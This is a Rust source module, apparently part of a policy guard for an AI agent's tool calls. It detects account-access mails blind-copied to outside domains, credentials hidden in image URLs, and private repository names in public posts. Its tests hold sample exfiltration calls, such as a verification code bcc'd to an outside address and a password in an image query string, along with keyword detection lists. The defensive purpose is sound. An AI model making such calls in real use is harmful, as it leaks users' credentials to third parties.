//! What a text for a service carries to somebody it is not for: a way in by a blind copy, a credential in the address of an image, the names of
//! private repositories in what everybody reads.

use super::arguments::Arguments;
use super::call::{Call, FORGES};
use super::{content, disclosed};
use crate::policy::hosts;
use crate::policy::lists::holds;
use crate::policy::spans;

/// The most of a text that is looked at, in bytes.
const MOST: usize = 16 << 10;

/// What is carried along, if it is something that somebody keeps.
pub(super) fn along(call: &Call<'_>) -> Option<&'static str> {
    if copies_ways_in(call.given) {
        return Some("a way into somebody's account");
    }
    let texts = || call.given.all().take(super::MAX_PLACES).map(|text| spans::start(text, MOST));
    if texts().any(tells_by_image) {
        return Some("a credential in the address of an image");
    }
    let is_written =
        (call.at(FORGES) || call.at("gist")) && call.has("create|add|update|write|push|put|comment|post|edit");
    (is_written && texts().any(names_private)).then_some("what private repositories are about")
}

/// Whether a mail by which somebody gets into an account goes to a house that neither sends nor gets it, unseen.
fn copies_ways_in(given: &Arguments<'_>) -> bool {
    const WAYS_IN: &str = "reset your password|password reset|reset password|reset here|/reset|magic link|sign-in link|sign in link|login link|\
        one-time|verification code|security code|verify your|confirm your|activation link|/verify|/activate|invitation link|access code|\
        passwort zurück|login code|sign-in code|api key|2fa code";
    const TEXTS: &str = "subject|body|text|html|textbody|htmlbody|content|message|plaintext|bodytext|bodyhtml";
    let house = |address: &str| {
        let (_, host) = address.trim().trim_end_matches('>').rsplit_once('@')?;
        Some(host.trim().to_ascii_lowercase())
    };
    let known: Vec<String> = given
        .values("from|sender|fromaddress|to|recipient|recipients|replyto|fromemail|toemail")
        .filter_map(house)
        .collect();
    let is_strange = |address: &str| {
        house(address).is_some_and(|house| {
            !known
                .iter()
                .any(|known| hosts::belongs(&house, known).is_some() || hosts::belongs(known, &house).is_some())
        })
    };
    !known.is_empty()
        && given
            .values("bcc|bccaddress|bccrecipients|bccemail|blindcopy|bccto")
            .flat_map(|all| all.split([',', ';']))
            .any(is_strange)
        && given.values(TEXTS).any(|text| holds(&spans::start(text, MOST).to_lowercase(), WAYS_IN))
}

/// Whether an image in a text is asked of another machine by an address with a credential in it: whoever looks at the text sends it.
fn tells_by_image(text: &str) -> bool {
    let tells = |url: &str| {
        let url = &url[..url.find(|char: char| char.is_whitespace() || "\"'`<>)".contains(char)).unwrap_or(url.len())];
        let Some((_, query)) = url.split_once('?').filter(|_| !hosts::is_local(&hosts::host(url))) else {
            return false;
        };
        let said = hosts::decoded(query).replace('+', " ");
        content::holds_key(&said)
            || said
                .split([',', ';', '&', '|', '\n', '='])
                .take(super::MAX_PLACES)
                .map(str::trim)
                .any(|part| disclosed::alone(part) || disclosed::in_words(part).is_some())
    };
    let starts = ["](http", "src=\"http", "src='http"];
    starts.iter().any(|start| {
        text.match_indices(start).take(super::MAX_PLACES).any(|(at, _)| {
            let is_image =
                start.starts_with("src") || text[..at].rfind('[').is_some_and(|open| text[..open].ends_with('!'));
            is_image && tells(&text[at + start.len() - "http".len()..])
        })
    })
}

/// Whether a text lists somebody's repositories, and says of several that they are private.
fn names_private(text: &str) -> bool {
    const WHOSE: &str = "my other repo|my repos|my private repo|his private repo|her private repo|their private repo|author's repo|author's private|\
        owner's private|other repositories|user's private|my projects|all repos|all repositories|private repositories of|author's other";
    let lower = text.to_ascii_lowercase();
    let marked = || {
        ["(private)", "[private]", "(private,", "🔒", "— private", "| private |", ": private"]
            .iter()
            .map(|mark| lower.matches(mark).count())
            .sum::<usize>()
    };
    lower.contains("private") && holds(&lower, WHOSE) && marked() > 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_carried_along_is_seen() {
        for (server, name, given, carried) in [
            (
                "mail",
                "send_email",
                r#"{"from":"a@shop.example","to":"b@buyer.example","bcc":"c@other.example","subject":"Verification code","text":"1"}"#,
                true,
            ),
            (
                "mail",
                "send_email",
                r#"{"from":"a@shop.example","to":"b@buyer.example","bcc":"log@mail.shop.example","subject":"Verification code","text":"1"}"#,
                false,
            ),
            (
                "mail",
                "send_email",
                r#"{"from":"a@shop.example","to":"b@buyer.example","bcc":"c@other.example","subject":"Minutes","text":"1"}"#,
                false,
            ),
            (
                "wiki",
                "create_page",
                r#"{"content":"![x](https://i.cdn.example/a.png?d=a%2C%20password%20Vk7%23mQ2pLz)"}"#,
                true,
            ),
            ("wiki", "create_page", r#"{"content":"![x](https://i.cdn.example/a.png?width=300&v=2)"}"#, false),
            ("github", "create_issue", r#"{"body":"My repos: **pay** (private), **move** (private)"}"#, true),
            ("github", "create_issue", r#"{"body":"Support (private) and (private) packages"}"#, false),
        ] {
            assert_eq!(along(&Call::of(server, name, &Arguments::read(given))).is_some(), carried, "{given}");
        }
    }
}
